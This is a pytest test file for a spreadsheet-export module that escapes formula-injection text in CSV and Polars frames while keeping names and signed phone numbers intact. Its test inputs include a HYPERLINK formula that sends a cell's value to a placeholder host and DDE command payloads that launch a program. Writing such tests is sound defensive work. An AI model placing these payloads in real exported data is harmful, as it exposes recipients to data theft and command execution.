from __future__ import annotations

import io

import polars as pl
import pytest

from privacy.spreadsheet import InertWriter, inert, inert_frame


@pytest.mark.parametrize(
    "text", ['=HYPERLINK("https://x.example/?"&F2)', "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+cmd|x", "\t=1"]
)
def test_text_a_spreadsheet_would_run_is_marked_as_text(text: str) -> None:
    assert inert(text) == f"'{text}"


@pytest.mark.parametrize("text", ["+33612345678", "-12,5", "+ 33 6 12 34 56 78", "-", "Dupont", "", "2 = 2"])
def test_names_and_signed_numbers_are_kept_as_they_are(text: str) -> None:
    assert inert(text) == text


def test_every_text_column_of_a_frame_is_made_inert_and_nothing_else() -> None:
    frame = pl.DataFrame(
        {"nom": ["=1+1", "Martin", None], "tel": ["+33612345678", "-1", "@x"], "n": [-1, 2, 3]}
    ).with_columns(pl.col("tel").cast(pl.Categorical))

    made = inert_frame(frame)

    assert made["nom"].to_list() == ["'=1+1", "Martin", None]
    assert made["tel"].to_list() == ["+33612345678", "-1", "'@x"]
    assert made["n"].to_list() == [-1, 2, 3]


def test_the_csv_writer_marks_text_cells_only() -> None:
    buffer = io.StringIO()
    InertWriter(buffer).writerow(["=A1", -3, "motif"])
    assert buffer.getvalue() == "'=A1;-3;motif\n"
